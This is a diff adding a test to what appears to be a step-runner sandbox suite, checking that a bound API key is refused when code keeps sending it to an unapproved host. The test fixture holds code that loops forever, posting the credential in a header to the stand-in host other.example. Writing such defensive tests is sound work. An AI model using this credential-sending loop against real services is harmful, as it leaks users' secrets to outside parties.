@@ -170,6 +170,20 @@ describe('a step of code', () => {
     expect(played.audit).toEqual([])
   })
 
+  test('fails where it goes on sending a credential that was refused, whatever the code makes of it', async () => {
+    const code = `${PARCELS}
+    export default { props: { parcels }, async run() {
+      const headers = { 'x-key': this.parcels.$auth.api_key }
+      for (;;) await fetch('http://other.example/', { headers }).catch(() => {})
+    } }`
+    const steps = [{ name: 'insist', code, auth: bound }]
+    const { view, sent } = await play({ steps, body, settings: { egress: ['other.example'] } })
+    expect(view).toMatchObject({
+      end: { status: 'failed', step: 'insist', error: { code: 'credential_wrong_host' } }
+    })
+    expect(sent).toEqual([])
+  })
+
   test('has secrets of the environment as handles', async () => {
     const code = `export default async () => {
       const headers = { authorization: 'Bearer ' + process.env.API_KEY }
